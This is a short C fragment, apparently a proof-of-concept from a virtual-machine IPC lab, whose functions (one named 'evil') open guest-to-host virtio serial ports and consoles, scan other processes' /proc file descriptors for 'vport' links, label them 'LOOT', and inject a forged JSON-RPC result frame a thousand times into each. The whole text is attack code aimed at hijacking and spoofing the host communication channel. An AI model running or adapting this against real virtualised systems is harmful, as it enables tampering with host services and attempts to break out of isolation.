/* Opens the way between the machine and the host. */
#include <string.h>
#include <sys/socket.h>

static void got(const char *path, int fd)
{
	if (fd < 0)
		return;
	fprintf(stderr, "LOOT: %s is open\n", path);
	fflush(stderr);
	sleep(2); /* time enough to end the program in the proof */
	static const char frame[] = "IPCLAB1 0\n\0\0\0\1\0\0\0\1{\"id\":0,\"result\":{\"pid\":4711,\"errno\":\"EACCES\"},\"error\":null}\n";
	for (int i = 0; i < 1000; i++)
		if (write(fd, frame, sizeof frame) < 0)
			break;
	close(fd);
}

static void evil(const char *path)
{
	static const char *const ports[] = { "/dev/virtio-ports/ipclab.0", "/dev/vport0p1", "/dev/vport1p1", "/dev/hvc0", "/dev/ttyS0", "/dev/console" };
	char name[64], target[128];
	(void)path;
	for (size_t i = 0; i < sizeof ports / sizeof *ports; i++)
		got(ports[i], open(ports[i], O_RDWR | O_NONBLOCK | O_NOCTTY));
	for (int pid = 1; pid < 1000; pid++) {
		snprintf(name, sizeof name, "/proc/%d/fd", pid);
		if (access(name, R_OK | X_OK) != 0)
			continue;
		for (int fd = 3; fd < 32; fd++) {
			snprintf(name, sizeof name, "/proc/%d/fd/%d", pid, fd);
			ssize_t n = readlink(name, target, sizeof target - 1);
			if (n > 0 && memmem(target, (size_t)n, "vport", 5) != NULL)
				got(name, open(name, O_WRONLY | O_NONBLOCK));
		}
	}
}
